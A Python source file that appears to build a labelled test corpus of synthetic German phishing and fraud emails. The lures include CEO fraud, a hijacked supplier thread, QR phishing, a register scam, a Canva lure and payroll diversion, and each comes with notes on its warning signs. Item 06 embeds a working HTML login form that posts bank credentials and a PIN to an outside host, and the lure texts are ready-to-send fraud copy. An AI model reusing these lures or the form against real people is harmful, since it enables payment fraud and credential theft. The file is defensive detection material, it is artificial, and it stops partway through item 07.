"""Attack messages, German (01-08)."""
from msgs import msg
from msgs.common import *  # noqa
from lib import qr as Q, ids, archive
from lib.mime import addr, hdr_text, ew
from lib.msg import in_zone, d_std, d_pad, d_postfix, epoch, local
import company


def ios_html(lines, sig_word='Von <a href="https://aka.ms/o0ukef">Outlook für iOS</a> gesendet'):
    out = ['<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n<body>\n<div dir="ltr">']
    for ln in lines:
        out.append('<div dir="ltr">%s</div>' % (B.esc(ln) if ln.strip() else '<br>'))
    out.append('<div dir="ltr"><br></div>\n<div id="ms-outlook-mobile-signature" dir="ltr">\n<div style="direction:ltr">%s</div>\n</div>\n</div>\n</body>\n</html>' % sig_word)
    return '\n'.join(out) + '\n'


@msg('attack', '01', 'de', 'ceo-vertrauliche-uebernahme')
def a01(m):
    when = local('DE', 2026, 11, 12, 11, 47, 9)
    text = """Hallo Sabine,

bist du heute im Büro? Ich sitze bis mindestens 16 Uhr in Verhandlungen in Zürich und kann nicht telefonieren.

Wir stehen kurz vor dem Abschluss der Übernahme eines Festivalveranstalters in der Schweiz (intern „Projekt Nordlicht“). Der Beirat ist informiert, im Haus wissen außer dir nur Dr. Reimers und ich davon – bitte behalte das bis zur offiziellen Mitteilung am Montag für dich, auch gegenüber dem Team in der Buchhaltung.

Für die Exklusivitätsvereinbarung müssen wir heute noch eine Anzahlung auf das Treuhandkonto der begleitenden Kanzlei leisten. Rechtsanwalt Dr. Martin Keller (Keller Baumann Rechtsanwälte, Zürich) meldet sich in den nächsten 30 Minuten per E-Mail bei dir mit der Vereinbarung und der Kontoverbindung.

Kannst du mir kurz bestätigen, dass du die Zahlung heute vor 15 Uhr freigeben kannst? Bitte antworte nur auf diese Mail, ich lese zwischendurch auf dem Handy mit.

Danke dir!
Jürgen

Von Outlook für iOS gesendet<https://aka.ms/o0ukef>"""
    lines = text.split('\n')[:-2]
    tp = B.text_part(text, 'plain', 'utf-8', 'base64')
    hp = B.html_part(ios_html(lines), 'utf-8', 'base64')
    b = '_000_%s%s%seurp_' % ('PA4PR09MB', m.hex(30, True), 'PA4P')
    body = Multi([('Content-Type', 'multipart/alternative;\n\tboundary="%s"' % b)], [tp, hp], b)
    P.m365(m, ('Jürgen Hoffmann', 'juergen.hoffmann@examplegroup-eu.com'), [S('Sabine Krüger')],
           'Vertraulich – Projekt Nordlicht', when, body,
           dkim_domain='examplegroupeu.onmicrosoft.com', dkim_selector='selector1-examplegroupeu-onmicrosoft-com',
           dmarc=('none', None), lang='de-DE', region='eurprd09', prefix=('PA4PR09MB', 'AS8PR09MB'),
           ctry='', subj_charset='utf-8', name_charset='utf-8')
    m.meta.update(
        what='CEO fraud, stage 1: "Jürgen Hoffmann" asks the CFO to confirm a same-day confidential escrow payment for a Swiss festival takeover; a fake lawyer will follow up.',
        why='Sent from look-alike domain examplegroup-eu.com (attacker Microsoft 365 tenant, DKIM only for the onmicrosoft.com domain, no DMARC record), not from example.com/examplegroup.eu; secrecy, urgency, "only reply by mail", no phone, payment outside the normal approval path. No link or attachment to scan.')


@msg('attack', '02', 'de', 'threadhijack-lieferant-neue-bankverbindung')
def a02(m):
    when = local('DE', 2026, 11, 17, 14, 3, 51)
    mule = ids.make_iban('DE', '10011001' + '2846193057')
    quoted_date = local('DE', 2026, 11, 16, 9, 14, 0)
    text = """Hallo Frau Weiß,

vielen Dank für Ihre Rückmeldung und die Bestätigung der beiden Rechnungen.

Bitte beachten Sie: Im Zuge unserer Umstellung auf ein neues Cash-Management ist unser Konto bei der Sparkasse Hannover seit dieser Woche nur noch eingeschränkt für Zahlungseingänge nutzbar. Die Zahlung für RE-2026-11204 (Tourproduktion Winterleuchten, 38.721,40 EUR) und RE-2026-11388 (Zusatzrigging Hansehalle, 6.188,00 EUR) bitte daher ausschließlich auf unsere neue Bankverbindung:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: NTSBDEB1XXX

Das Bestätigungsschreiben unserer Geschäftsleitung finden Sie im Anhang. Bitte hinterlegen Sie die neue Verbindung auch für alle künftigen Zahlungen und geben Sie mir kurz Bescheid, wenn die Überweisung raus ist, damit ich die Buchhaltung informieren kann.

Mit freundlichen Grüßen

Petra Lang
Disposition / Auftragsabwicklung

Lieferant GmbH · Bühnen-, Licht- & Riggingtechnik
Industriestraße 14 · 30855 Langenhagen
Tel. +49 511 7240 3318 · p.lang@lieferant-gmbh.de

Am 16.11.2026 09:14, schrieb Monika Weiß:
> Hallo Frau Lang,
>
> danke für die Zusendung. Die beiden Rechnungen RE-2026-11204 und
> RE-2026-11388 sind sachlich geprüft und gehen mit dem Zahllauf am
> Donnerstag raus.
>
> Viele Grüße
> Monika Weiß
> Kreditorenbuchhaltung
> Example Live Entertainment GmbH""" % ids.fmt_iban(mule)
    tp = B.text_part(text, 'plain', 'UTF-8', '8bit', quote=False, flowed=True, upper_charset=True)
    letter = doc_pdf(m, 'Microsoft: Print To PDF', local('DE', 2026, 11, 17, 13, 41, 2), 'Lieferant GmbH',
                     ['Bühnen-, Licht- & Riggingtechnik · Industriestraße 14 · 30855 Langenhagen'], (0, 84, 147),
                     ['Example Live Entertainment GmbH', 'Kreditorenbuchhaltung', 'Am Sandtorkai 58', '20457 Hamburg'],
                     [('Datum', '16.11.2026'), ('Ihr Ansprechpartner', 'Petra Lang')],
                     'Änderung unserer Bankverbindung',
                     ['Sehr geehrte Damen und Herren,',
                      'hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung geändert hat. '
                      'Bitte leisten Sie sämtliche Zahlungen auf offene und künftige Rechnungen ausschließlich auf das folgende Konto:',
                      'Kontoinhaber: Lieferant GmbH\nIBAN: %s\nBIC: NTSBDEB1XXX' % ids.fmt_iban(mule),
                      'Zahlungen auf unsere bisherige Verbindung können ab sofort nicht mehr zugeordnet werden. '
                      'Wir bitten Sie, Ihre Stammdaten entsprechend anzupassen.',
                      'Mit freundlichen Grüßen'],
                     sign=['Lieferant GmbH', '', 'ppa. Stefan Maier'],
                     footer=[['Lieferant GmbH', 'Industriestraße 14, 30855 Langenhagen', 'Amtsgericht Hannover HRB 204117'],
                             ['Geschäftsführer: Klaus Brandes', 'USt-IdNr. ' + ids.de_ustid('12738456')],
                             ['Tel. +49 511 7240 330', 'info@lieferant-gmbh.de', 'www.lieferant-gmbh.de']],
                     author='Petra Lang')
    att = B.attachment(letter, 'application/pdf', 'Bankverbindung_Lieferant_GmbH_2026.pdf', 'plain')
    bnd = '=_' + m.hex(32)
    body = Multi([('Content-Type', 'multipart/mixed;\n boundary="%s"' % bnd)], [tp, att], bnd)
    t0 = when
    t1 = m.later(t0, 0, 1)
    arr = m.later(t1, 1, 3)
    m.connect('mail.lieferant-gmbh.de', 'mail.lieferant-gmbh.de', '203.0.113.25', 'p.lang@lieferant-gmbh.de',
              'monika.weiss@example.com', arr)
    m.dmarc = ('pass', 'quarantine', 'lieferant-gmbh.de')
    h = []
    h.append(('DKIM-Signature', m.dkim('lieferant-gmbh.de', 'dkim2026', 'From:Reply-To:Subject:Date:In-Reply-To:References:To:From',
                                       t=epoch(t1))))
    h.append(P.postfix_rcv(m, 'webmail.lieferant-gmbh.de', 'localhost', '127.0.0.1', 'mail.lieferant-gmbh.de', t1,
                           'monika.weiss@example.com', proto='ESMTPSA', auth='p.lang@lieferant-gmbh.de', tls=None))
    h.append(('Received', 'from 45.137.21.118\n\tby webmail.lieferant-gmbh.de\n\twith HTTP (HTTP/1.1 POST); %s' % d_std(t0)))
    h.append(('@MIME', None))
    h.append(('MIME-Version', '1.0'))
    h.append(('Date', d_std(t0)))
    h.append(('From', 'Petra Lang <p.lang@lieferant-gmbh.de>'))
    h.append(('To', addr('Monika Weiß', 'monika.weiss@example.com', 'UTF-8', 'Q')))
    h.append(('Subject', 'AW: Rechnungen RE-2026-11204 / RE-2026-11388'))
    h.append(('Reply-To', 'Petra Lang <p.lang@lieferant-gmbh.com>'))
    ref = '<7c1e0b7f4a2d4f2aa0c3d5e6f7081920@EXCH01.corp.example.com>'
    h.append(('In-Reply-To', ref))
    h.append(('References', '<000a01db47e2$5a1b9c40$0e52d4c0$@lieferant-gmbh.de>\n ' + ref))
    h.append(('User-Agent', 'Roundcube Webmail/1.6.9'))
    h.append(('Message-ID', '<%s@lieferant-gmbh.de>' % m.hex(32)))
    h.append(('X-Sender', 'p.lang@lieferant-gmbh.de'))
    # Content-Type last in Roundcube
    h.remove(('@MIME', None))
    h.append(('@MIME', None))
    m.headers = h
    m.body = body
    m.facts['phone'] = ['+49 511 7240 3318']
    m.meta.update(
        what='Thread hijack from the real, compromised mailbox p.lang@lieferant-gmbh.de: reply in an existing invoice thread asking to pay two confirmed invoices (44,909.40 EUR) to a "new" N26 account, with a forged PDF confirmation letter.',
        why='Authenticates perfectly (real relay, DKIM/SPF/DMARC pass), but: sent from Roundcube via HTTP from 45.137.21.118 (not Lieferant\'s usual Outlook), Reply-To diverts to look-alike lieferant-gmbh.com, account is a neobank account instead of the Sparkasse account on file, no call-back offered, "tell me when the transfer is out".')


@msg('attack', '03', 'de', 'datev-smartlogin-quishing-pdf')
def a03(m):
    when = local('DE', 2026, 10, 20, 7, 12, 33)
    victim = 'monika.weiss@example.com'
    import base64
    url = 'https://smartlogin-datev.de-verifizierung.com/erneuerung/?mid=%s' % base64.b64encode(victim.encode()).decode().rstrip('=')
    mat, _, _ = Q.encode(url)
    m.qr_expect.append(url)
    pdf = doc_pdf(m, 'Skia/PDF m128', when, 'DATEV', ['DATEV eG · Paumgartnerstraße 6-14 · 90429 Nürnberg'], (0, 150, 57),
                  ['Frau Monika Weiß', 'Example Live Entertainment GmbH', 'Am Sandtorkai 58', '20457 Hamburg'],
                  [('Vorgang', 'SL-2026-%s' % m.digits(7)), ('Datum', '20.10.2026'), ('Frist', '27.10.2026')],
                  'Erneuerung Ihres DATEV SmartLogin',
                  ['Sehr geehrte Frau Weiß,',
                   'im Rahmen der Umstellung auf das neue Authentifizierungsverfahren DATEV SmartLogin 2.0 müssen alle bestehenden '
                   'Registrierungen bis zum 27.10.2026 erneuert werden. Nach Ablauf der Frist ist eine Anmeldung an DATEV Unternehmen '
                   'online und der Belegtransfer an Ihre Steuerberatungskanzlei nicht mehr möglich.',
                   'Aus Sicherheitsgründen erfolgt die Erneuerung ausschließlich über Ihr mobiles Endgerät. Bitte scannen Sie dazu den '
                   'nebenstehenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Halten Sie Ihre '
                   'Benutzerkennung und Ihr Passwort bereit.',
                   'Die Erneuerung dauert etwa zwei Minuten. Ihre hinterlegten Daten und Belege bleiben vollständig erhalten.'],
                  after=['Mit freundlichen Grüßen', 'Ihr DATEV-Kundenservice'],
                  qr=(mat, url), qr_caption=['QR-Code mit dem', 'Smartphone scannen'],
                  footer=[['DATEV eG', 'Paumgartnerstraße 6-14, 90429 Nürnberg'], ['Registergericht Nürnberg GnR 70', 'Vorstand: Prof. Dr. Robert Mayr (Vors.)'],
                          ['Dieses Schreiben wurde maschinell erstellt', 'und ist ohne Unterschrift gültig.']],
                  doc_title='DATEV SmartLogin Erneuerung')
    text = """DATEV SmartLogin: Erneuerung bis 27.10.2026 erforderlich

Sehr geehrte Frau Weiß,

für Ihre Benutzerkennung bei DATEV Unternehmen online steht die Umstellung auf DATEV SmartLogin 2.0 an. Alle Registrierungen, die nicht bis zum 27.10.2026 erneuert werden, werden automatisch deaktiviert. Der Belegaustausch mit Ihrer Steuerberatungskanzlei ist danach bis zur Neuregistrierung nicht mehr möglich.

Die Anleitung mit Ihrem persönlichen QR-Code finden Sie im angehängten Schreiben. Aus Sicherheitsgründen enthält diese E-Mail keinen Link – bitte scannen Sie den QR-Code mit Ihrem Smartphone.

Mit freundlichen Grüßen
Ihr DATEV-Kundenservice

DATEV eG · Paumgartnerstraße 6-14 · 90429 Nürnberg
Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail."""
    html = brand_html('DATEV SmartLogin: Erneuerung bis 27.10.2026 erforderlich', [
        'Sehr geehrte Frau Weiß,',
        'für Ihre Benutzerkennung bei DATEV Unternehmen online steht die Umstellung auf DATEV SmartLogin 2.0 an. Alle Registrierungen, die nicht bis zum 27.10.2026 erneuert werden, werden automatisch deaktiviert. Der Belegaustausch mit Ihrer Steuerberatungskanzlei ist danach bis zur Neuregistrierung nicht mehr möglich.',
        'Die Anleitung mit Ihrem persönlichen QR-Code finden Sie im angehängten Schreiben. Aus Sicherheitsgründen enthält diese E-Mail keinen Link – bitte scannen Sie den QR-Code mit Ihrem Smartphone.',
        'Mit freundlichen Grüßen\nIhr DATEV-Kundenservice'], color='#009639', brand='DATEV',
        footer=['DATEV eG · Paumgartnerstraße 6-14 · 90429 Nürnberg\nDiese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.'],
        preheader='Ihre Registrierung läuft ab – jetzt erneuern')
    tp = B.text_part(text, 'plain', 'utf-8', 'quoted-printable')
    hp = B.html_part(html, 'utf-8', 'quoted-printable')
    b1 = m.hex(64)
    alt = Multi([('Content-Type', 'multipart/alternative; boundary=%s' % b1)], [tp, hp], b1)
    att = B.attachment(pdf, 'application/pdf', 'DATEV_SmartLogin_Erneuerung_MWeiss.pdf', 'plain')
    b2 = m.hex(64)
    body = Multi([('Content-Type', 'multipart/mixed; boundary=%s' % b2)], [alt, att], b2)
    n = m.between(10, 250)
    host = 'o%d.ptr%d.sendgrid.net' % (m.between(1000000, 9999999), m.between(1000, 9999))
    ip = '149.72.%d.%d' % (m.between(100, 250), n)
    t1 = m.later(when, 1, 2)
    envf = 'bounces+48213977-%s-%s=example.com@em8813.datev-kundenservice.de' % (m.hex(4), victim.split('@')[0])
    m.connect(host, host, ip, envf, victim, m.later(t1, 1, 2))
    m.dmarc = ('pass', 'none', 'datev-kundenservice.de')
    h = []
    h.append(('DKIM-Signature', m.dkim('datev-kundenservice.de', 's1', 'from:content-type:subject:reply-to:to:cc:content-type:from:subject:to', t=epoch(when))))
    h.append(('DKIM-Signature', m.dkim('sendgrid.info', 'smtpapi', 'from:content-type:subject:reply-to:to:cc:content-type:from:subject:to', t=epoch(when))))
    h.append(('Received', 'by filterdrecv-%s-%s with SMTP id filterdrecv-%s-%s-1-%s-3F\n        %s' % (
        m.hex(10), m.alnum(5).lower(), m.hex(10), m.alnum(5).lower(), m.hex(8, True), d_std(in_zone(when, 'UTC')).replace('+0000', '+0000 (UTC)'))))
    h.append(('Received', 'from [127.0.0.1] (unknown)\n\tby geopod-ismtpd-%d (SG) with HTTP\n\tid %s\n\tfor <%s>;\n\t%s' % (
        m.between(1, 60), m.b64url(16), victim, d_std(in_zone(when, 'UTC')).replace('+0000', '+0000 (UTC)'))))
    h.append(('Content-Transfer-Encoding', None))
    h.pop()
    h.append(('@MIME', None))
    h.append(('Date', d_std(in_zone(when, 'UTC')).replace('+0000', '+0000 (UTC)')))
    h.append(('From', '"DATEV Kundenservice" <kundenservice@datev-kundenservice.de>'))
    h.append(('Mime-Version', '1.0'))
    h.append(('Message-ID', '<%s@geopod-ismtpd-%d>' % (m.b64url(16), m.between(1, 60))))
    h.append(('Subject', hdr_text('DATEV SmartLogin: Erneuerung Ihrer Registrierung bis 27.10.2026', 'UTF-8', 'Q')))
    h.append(('Reply-To', 'noreply@datev-kundenservice.de'))
    h.append(('X-SG-EID', '\n ' + m.b64(120)))
    h.append(('X-SG-ID', '\n ' + m.b64(100)))
    h.append(('To', addr('Monika Weiß', victim, 'utf-8', 'Q')))
    h.append(('X-Entity-ID', 'u001.' + m.b64url(18)))
    m.headers = h
    m.body = body
    m.meta.update(
        what='Quishing: fake DATEV notice ("SmartLogin 2.0 renewal by 27.10.") to accounts payable; the PDF letter carries a QR code to a credential-harvesting page, the mail itself has no link.',
        why='DATEV does not renew SmartLogin by QR letters; look-alike domain datev-kundenservice.de sent through SendGrid; QR points to smartlogin-datev.de-verifizierung.com with the victim\'s address base64-encoded; deadline pressure; "no link for security reasons" is the evasion trick.')


@msg('attack', '04', 'de', 'registerscam-transparenzregister-bescheid')
def a04(m):
    when = local('DE', 2026, 10, 6, 10, 21, 44)
    iban = ids.make_iban('SK', '1100' + '000000' + '2948315762')
    ref = 'TR-%s/26' % m.digits(7)
    text = """Sehr geehrte Damen und Herren,

nach unseren Unterlagen ist die Eintragung der Example Live Entertainment GmbH (HRB 178342, Amtsgericht Hamburg) in das Register wirtschaftlich Berechtigter für das Geschäftsjahr 2026 noch nicht abschließend geprüft.

Gemäß § 20 Geldwäschegesetz (GwG) sind Gesellschaften verpflichtet, ihre wirtschaftlich Berechtigten zu melden und die Angaben aktuell zu halten. Um Bußgelder zu vermeiden, übersenden wir Ihnen anbei den Prüf- und Eintragungsbescheid mit dem Zahlungsbetrag für die Registerführung.

Aktenzeichen: %s
Betrag: 468,30 EUR
Zahlbar bis: 20.10.2026

Bitte verwenden Sie bei der Überweisung unbedingt das Aktenzeichen als Verwendungszweck.

Mit freundlichen Grüßen

Abteilung Registerführung
Zentrales Register für Unternehmensangaben (ZRU)
Friedrichstraße 123, 10117 Berlin
Tel. 030 2555 8417 (Mo-Fr 9-15 Uhr)""" % ref
    pdf = doc_pdf(m, 'TCPDF 6.7.5 (http://www.tcpdf.org)', when, 'ZRU – Zentrales Register für Unternehmensangaben',
                  ['Registerführung wirtschaftlich Berechtigter · Friedrichstraße 123 · 10117 Berlin'], (40, 40, 40),
                  ['Example Live Entertainment GmbH', 'z. Hd. Geschäftsführung', 'Am Sandtorkai 58', '20457 Hamburg'],
                  [('Aktenzeichen', ref), ('Datum', '06.10.2026'), ('Registernummer', 'HRB 178342'), ('Fällig', '20.10.2026')],
                  'Prüf- und Eintragungsbescheid 2026',
                  ['Gegenstand: Eintragung und Prüfung der Angaben zu wirtschaftlich Berechtigten (§§ 19, 20 GwG) für Ihr Unternehmen.',
                   'Die Eintragung umfasst die Erfassung, Prüfung und Veröffentlichung Ihrer Unternehmensdaten im ZRU-Online-Verzeichnis.'],
                  table=(['Pos.', 'Leistung', 'Zeitraum', 'Betrag'], [40, 250, 110, 83], ['l', 'l', 'l', 'r'],
                         [['1', 'Registerführung und Prüfung wirtschaftlich Berechtigter', '2026', '393,53 EUR']]),
                  totals=[('Nettobetrag', '393,53 EUR', False), ('zzgl. 19 % USt', '74,77 EUR', False), ('Zahlbetrag', '468,30 EUR', True)],
                  after=['Bitte überweisen Sie den Zahlbetrag bis zum 20.10.2026 unter Angabe des Aktenzeichens auf das Konto: '
                         'Empfänger ZRU Register Services s.r.o., IBAN %s, BIC SUBASKBX.' % ids.fmt_iban(iban),
                         'Hinweis: Mit Zahlung des Betrages nehmen Sie das Angebot zur Eintragung in das private ZRU-Online-Verzeichnis '
                         'an. Die Laufzeit beträgt drei Jahre und verlängert sich um jeweils ein weiteres Jahr, sofern nicht drei Monate vor '
                         'Ablauf gekündigt wird. Das ZRU ist keine Behörde und steht in keiner Verbindung zum amtlichen Transparenzregister. '
                         'Gerichtsstand ist Bratislava.'],
                  footer=[['ZRU Register Services s.r.o.', 'Zweigstelle Berlin, Friedrichstraße 123'], ['Tel. 030 2555 8417', 'service@zru-register.de'],
                          ['IČO 55 824 117', 'Handelsregister Bratislava I']],
                  doc_title='Bescheid ' + ref)
    tp = B.text_part(text, 'plain', 'iso-8859-1', 'quoted-printable')
    att = B.attachment(pdf, 'application/pdf', 'Bescheid_%s.pdf' % ref.replace('/', '-'), 'plain')
    bnd = 'b1=_' + m.alnum(43)
    body = Multi([('Content-Type', 'multipart/mixed;\n boundary="%s"' % bnd)], [tp, att], bnd,
                 'This is a multi-part message in MIME format.')
    ip = '85.215.%d.%d' % (m.between(10, 250), m.between(10, 250))
    host = 'h%d.stratoserver.net' % m.between(2900000, 2999999)
    t1 = m.later(when, 1, 2)
    m.connect(host, host, ip, 'service@zru-register.de', 'juergen.hoffmann@example.com', m.later(t1, 1, 3))
    m.dmarc = ('pass', 'none', 'zru-register.de')
    h = []
    h.append(('DKIM-Signature', m.dkim('zru-register.de', 'default', 'Content-Type:MIME-Version:Message-ID:Reply-To:From:Subject:To:Date', t=epoch(when))))
    h.append(P.postfix_rcv(m, 'localhost', 'localhost', '127.0.0.1', host, t1, 'juergen.hoffmann@example.com', proto='ESMTP', tls=None))
    h.append(('Date', d_std(when)))
    h.append(('To', 'juergen.hoffmann@example.com'))
    h.append(('From', '"ZRU Registerfuehrung" <service@zru-register.de>'))
    h.append(('Reply-To', 'service@zru-register.de'))
    h.append(('Subject', hdr_text('Prüf- und Eintragungsbescheid 2026 - HRB 178342 - Aktenzeichen ' + ref, 'iso-8859-1', 'Q')))
    h.append(('Message-ID', '<%s@zru-register.de>' % m.alnum(43)))
    h.append(('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'))
    h.append(('MIME-Version', '1.0'))
    h.append(('@MIME', None))
    m.headers = h
    m.body = body
    m.facts['phone'] = ['+49 30 2555 8417']
    m.meta.update(
        what='Register scam: "Prüf- und Eintragungsbescheid" from a private "Zentrales Register für Unternehmensangaben" demanding 468.30 EUR under § 20 GwG, payable to a Slovak account; the fine print turns payment into a 3-year directory contract.',
        why='Mimics the official Transparenzregister (which is run by the Bundesanzeiger, not by a Slovak s.r.o.); invoice-like "Bescheid" for a service nobody ordered, foreign IBAN, PHPMailer from a Strato VPS, disclaimer hidden in the PDF.')


@msg('attack', '05', 'de', 'hansehalle-kompromittiert-canva-abrechnung')
def a05(m):
    when = local('DE', 2026, 12, 8, 16, 22, 5)
    canva = 'https://www.canva.com/design/DAGz4Rk8qLw/%s/view?utm_content=DAGz4Rk8qLw&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks' % m.b64url(16)
    text = """Hallo zusammen,

anbei wie besprochen die Endabrechnung der beiden Dezember-Shows (05./06.12.) inkl. Personalkosten Einlass, Sanitätsdienst und Reinigung zur Prüfung.

Die Datei ist mit den Belegen zu groß für den Mailanhang, ich habe sie euch deshalb über Canva freigegeben:

Endabrechnung_Dezember_2026.pdf
%s

Bitte gebt mir bis Donnerstag kurz Rückmeldung, dann kann unsere Buchhaltung die Schlussrechnung stellen.

Viele Grüße
Kerstin

--
Kerstin Albers
Veranstaltungsbüro

Hansehalle Hamburg Betriebsgesellschaft mbH
Sylvesterallee 11 · 22525 Hamburg
T +49 40 8531 2240 · M +49 171 4402 918
k.albers@hansehalle.de · www.hansehalle.de""" % canva
    body = gmail_body(m, text)
    P.gmail(m, ('Kerstin Albers', 'k.albers@hansehalle.de'), [('Kerstin Albers', 'k.albers@hansehalle.de')],
            'Endabrechnung Dezember-Shows 05./06.12. – bitte prüfen', when, body, workspace='hansehalle.de',
            rcpt=['jan.petersen@example.com'])
    m.facts['phone'] = ['+49 40 8531 2240', '+49 171 4402 918']
    m.meta.update(
        what='Document-share lure from the compromised Google Workspace mailbox of the venue contact (Hansehalle): "final settlement for the December shows" shared via a Canva design that leads to the phishing page.',
        why='Genuine sender domain with DKIM/SPF/DMARC pass, but sent To: the sender herself with all victims in Bcc (mx01 shows the real recipient), generic "Hallo zusammen", settlement offered only as a Canva link although Hansehalle normally sends PDF invoices; abused legitimate platform hides the payload.')


@msg('attack', '06', 'de', 'nordhafenbank-psd3-html-anhang')
def a06(m):
    when = local('DE', 2026, 11, 24, 6, 48, 12)
    post = 'https://nordhafen-business-freigabe.web.app/api/v2/session'
    htmlatt = ('<!DOCTYPE html>\n<html lang="de"><head><meta charset="utf-8"><title>NordhafenBusiness – Sicherheitsfreigabe</title>\n'
               '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
               '<style>body{font-family:Arial,sans-serif;background:#eef2f6;margin:0}.box{max-width:420px;margin:60px auto;background:#fff;'
               'padding:32px;border-top:6px solid #0b3d6e;box-shadow:0 2px 8px rgba(0,0,0,.12)}h1{font-size:20px;color:#0b3d6e}'
               'label{display:block;font-size:13px;margin-top:14px;color:#333}input{width:100%;padding:9px;margin-top:4px;border:1px solid #aab;'
               'box-sizing:border-box}button{margin-top:22px;width:100%;padding:11px;background:#0b3d6e;color:#fff;border:0;font-size:15px}'
               'p.small{font-size:11px;color:#777}</style></head>\n<body><div class="box">\n'
               '<h1>NordhafenBusiness Online-Banking</h1>\n<p>Sicherheitsfreigabe für Ihren Firmenzugang (PSD3-Umstellung)</p>\n'
               '<form method="post" action="@POST@">\n'
               '<input type="hidden" name="u" value="sabine.krueger@example.com">\n'
               '<label>VR-/Anmeldename</label><input name="login" autocomplete="off">\n'
               '<label>PIN</label><input name="pin" type="password">\n'
               '<label>Mobilnummer für pushTAN-Neuregistrierung</label><input name="mobile">\n'
               '<button type="submit">Freigabe starten</button>\n</form>\n'
               '<p class="small">Nordhafen Bank AG · Ballindamm 40 · 20095 Hamburg · BLZ 200 411 33</p>\n</div></body></html>\n').replace('@POST@', post)
    text = """Sehr geehrte Frau Krüger,

zum 1. Dezember 2026 stellen wir NordhafenBusiness auf die neuen Sicherheitsanforderungen der EU-Zahlungsdiensterichtlinie (PSD3) um. Firmenkunden mit Zahlungsfreigaben über 10.000 EUR müssen ihren Zugang bis zum 30.11.2026 einmalig neu bestätigen. Ohne Bestätigung werden Sammelüberweisungen und Echtzeitüberweisungen ab dem 1. Dezember vorübergehend gesperrt.

Die Bestätigung dauert etwa drei Minuten. Öffnen Sie dazu bitte das angehängte Sicherheitsformular in Ihrem Browser; aus Datenschutzgründen wird es lokal auf Ihrem Gerät geöffnet.

Ihre Vorgangsnummer: NHB-PSD3-%s

Mit freundlichen Grüßen
Ihr NordhafenBusiness-Team

Nordhafen Bank AG · Ballindamm 40 · 20095 Hamburg
Vorstand: Dr. Carsten Ehlers (Vorsitzender), Britta Sommer · Amtsgericht Hamburg HRB 61274""" % m.digits(8)
    html = brand_html('Neue Sicherheitsanforderungen ab 1. Dezember 2026', text.split('\n\n')[:-2] + ['Mit freundlichen Grüßen\nIhr NordhafenBusiness-Team'],
                      color='#0b3d6e', brand='Nordhafen Bank · NordhafenBusiness',
                      footer=['Nordhafen Bank AG · Ballindamm 40 · 20095 Hamburg\nVorstand: Dr. Carsten Ehlers (Vorsitzender), Britta Sommer · Amtsgericht Hamburg HRB 61274'],
                      charset='utf-8')
    tp = B.text_part(text, 'plain', 'utf-8', 'quoted-printable')
    hp = B.html_part(html, 'utf-8', 'quoted-printable')
    b1 = m.hex(32)
    alt = Multi([('Content-Type', 'multipart/alternative; boundary="%s"' % b1)], [tp, hp], b1)
    att = B.attachment(htmlatt.encode('utf-8'), 'text/html', 'NordhafenBusiness_Sicherheitsfreigabe.html', 'plain', cte='base64')
    b2 = m.hex(32)
    body = Multi([('Content-Type', 'multipart/mixed; boundary="%s"' % b2)], [alt, att], b2)
    ip = '159.135.%d.%d' % (m.between(224, 239), m.between(10, 250))
    host = 'm%s.eu.mailgun.net' % ip.split('.', 2)[2].replace('.', '-')
    host = 'm%d-%d.eu.mailgun.net' % (int(ip.split('.')[2]), int(ip.split('.')[3]))
    t1 = m.later(when, 0, 2)
    envf = 'bounce+%s.%s-sabine.krueger=example.com@mg.nordhafen-service.de' % (m.hex(6), m.hex(6))
    m.connect(host, host, ip, envf, 'sabine.krueger@example.com', m.later(t1, 1, 3))
    m.dmarc = ('pass', 'none', 'nordhafen-service.de')
    h = []
    h.append(('DKIM-Signature', m.dkim('mg.nordhafen-service.de', 'mx', 'Content-Type: Mime-Version: Subject: Subject: From: From: To: To: Date: Message-Id: Sender: Sender', t=epoch(when))))
    h.append(('DKIM-Signature', m.dkim('eu.mailgun.org', 'eu', 'Content-Type: Mime-Version: Subject: Subject: From: From: To: To: Date: Message-Id: Sender: Sender', t=epoch(when))))
    h.append(('X-Mailgun-Sending-Ip', ip))
    h.append(('X-Mailgun-Sid', m.b64url(60)))
    h.append(('Received', 'by %s with HTTP id %s; %s' % ('c6b6d1a2f5e0', m.hex(24), d_std(in_zone(when, 'UTC')))))
    h.append(('X-Mailgun-Batch-Id', m.hex(24)))
    h.append(('@MIME', None))
    h.append(('Mime-Version', '1.0'))
    h.append(('Subject', hdr_text('NordhafenBusiness: Sicherheitsfreigabe bis 30.11.2026 erforderlich', 'utf-8', 'Q')))
    h.append(('From', hdr_text('NordhafenBusiness', 'utf-8') + ' <sicherheit@nordhafen-service.de>'))
    h.append(('To', addr('Sabine Krüger', 'sabine.krueger@example.com', 'utf-8', 'Q')))
    h.append(('Date', d_std(in_zone(when, 'UTC'))))
    h.append(('Message-Id', '<%s.%s@mg.nordhafen-service.de>' % (epoch(when), m.hex(12))))
    h.append(('Sender', 'sicherheit@mg.nordhafen-service.de'))
    m.headers = h
    m.body = body
    m.meta.update(
        what='Bank credential phishing with an HTML attachment: "NordhafenBusiness" (the house bank\'s portal) demands a PSD3 security confirmation by 30.11.; the attached local HTML form posts login, PIN and mobile number to a Firebase (web.app) host.',
        why='Not from nordhafenbank.de but from look-alike nordhafen-service.de via Mailgun; banks never send login forms as attachments; harvested PIN + phone number enable pushTAN re-registration; deadline and threat of blocked transfers.')


@msg('attack', '07', 'de', 'payroll-diversion-gmx')
def a07(m):
    when = local('DE', 2026, 11, 18, 21, 37, 40)
    iban = ids.make_iban('DE', '12030000' + '1084726391')
    text = """Hallo Anja,

kurze Bitte: ich habe mein Gehaltskonto gewechselt (alte Bank schließt die Filiale bei mir). Kannst du für die November-Abrechnung schon die neue Verbindung hinterlegen? Das alte Konto wird zum Monatsende aufgelöst.

Kontoinhaber: Jan Petersen
IBAN: %s
Bank: DKB

Ich bin bis Freitag auf der Produktion in Köln und komme kaum an den Rechner, deshalb von privat. Gib mir bitte kurz Bescheid, wenn es geklappt hat.

Danke und Gruß
Jan""" % ids.fmt_iban(iban)
